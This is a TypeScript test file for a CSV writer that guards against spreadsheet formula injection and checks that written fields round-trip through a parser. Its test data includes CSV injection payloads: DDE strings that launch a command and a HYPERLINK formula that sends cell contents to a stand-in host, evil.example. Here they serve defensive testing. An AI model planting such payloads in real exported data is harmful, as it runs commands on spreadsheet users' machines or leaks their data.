import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import t from 'tap'
import { csvRecord, guarded, unguarded } from '../../src/csv/csv-writer.ts'

/** What spreadsheets have been made to run, and what ASVS 1.2.10 lists. */
const INJECTIONS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?x="&A1,"click")',
  '+1+1',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\0=1+1',
  '\r=1+1',
  '\n=1+1',
  "'=1+1",
  '',
  'plain',
  '07700',
  'a "quoted", field\r\nover lines',
]

t.test('what a spreadsheet would run gets an apostrophe in front', async (t) => {
  for (const text of INJECTIONS) t.notMatch(guarded(text), /^[=+\-@\t\0\r\n]/, JSON.stringify(text))
  t.equal(guarded('plain'), 'plain')
  t.equal(csvRecord([-5, 7]), '-5,7\r\n', 'numbers stay numbers')
})

t.test('a record read back by another parser has the fields that were written', async (t) => {
  const [fields] = parse(csvRecord(INJECTIONS), { relax_column_count: true }) as string[][]
  t.same(fields?.map(unguarded), INJECTIONS)
})

t.test('any fields make the round trip', async () => {
  const field = fc.string({
    unit: fc.constantFrom('=', '+', '-', '@', '\t', '\0', '\r', '\n', "'", '"', ',', 'a', '€'),
  })
  fc.assert(
    fc.property(fc.array(field, { minLength: 2, maxLength: 6 }), (fields) => {
      const [read] = parse(csvRecord(fields), { relax_column_count: true }) as string[][]
      return read?.every((text, index) => unguarded(text) === fields[index]) && read.length === fields.length
    }),
    { numRuns: 2_000 },
  )
})
